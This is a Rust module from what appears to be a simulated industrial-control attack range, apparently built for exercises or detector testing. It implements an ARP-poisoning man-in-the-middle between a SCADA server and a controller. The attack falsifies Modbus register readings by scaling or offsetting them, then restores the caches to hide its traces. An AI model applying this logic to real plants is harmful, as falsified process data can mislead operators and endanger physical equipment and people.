//! Adversary in the middle: two hosts are told the intruder's network card for each other's address;
//! what the SCADA server reads is changed on the way.

use std::cell::RefCell;
use std::rc::Rc;

use tokio_modbus::{Request, Response};

use super::{Attack, Needs, technique};
use crate::net::modbus::{Fate, Tamper};
use crate::plant::Role;
use crate::stage::{Intensity, Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "man-in-the-middle",
    about: "stands between SCADA server and controller and changes the values that are read",
    technique: technique("T0830"),
    acceptable: &["T0856", "T1692.002", "T0832"],
    grade: "A",
    kind: "context",
    proto: "modbus",
    variants: &["scale", "offset"],
    needs: Needs::Wire,
    seconds: [900, 240, 60],
    run: |stage| Box::pin(run(stage)),
};

/// Changes what registers show.
struct Forger {
    offset: bool,
}

impl Tamper for Forger {
    fn reply(&mut self, _: u8, _: &Request<'static>, reply: &mut Response) -> Fate {
        if let Response::ReadInputRegisters(words) = reply {
            for word in words.iter_mut().filter(|word| **word > 3) {
                *word = if self.offset { word.wrapping_add(40) } else { (u32::from(*word) * 9 / 10) as u16 };
            }
        }
        Fate::Passes
    }
}

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let scada = stage.known(Role::Scada).ip();
    let controller = stage.controller();
    let forger = Rc::new(RefCell::new(Forger { offset: stage.is("offset") }));
    stage.intercept(scada, controller, forger, Some(&intruder));
    // Caches forget; the lie is repeated as tools do.
    for _ in 0..stage.by(30, 24, 20) {
        stage.pause(stage.by(30.0, 10.0, 3.0)).await;
        stage.poison(scada, controller, &intruder);
    }
    // Who is in no hurry leaves no trace in their tables.
    if stage.intensity != Intensity::Fast {
        for _ in 0..3 {
            stage.restore(scada, controller, &intruder);
            stage.pause(1.0).await;
        }
    }
    stage.release(scada, controller);
    Ok(())
}
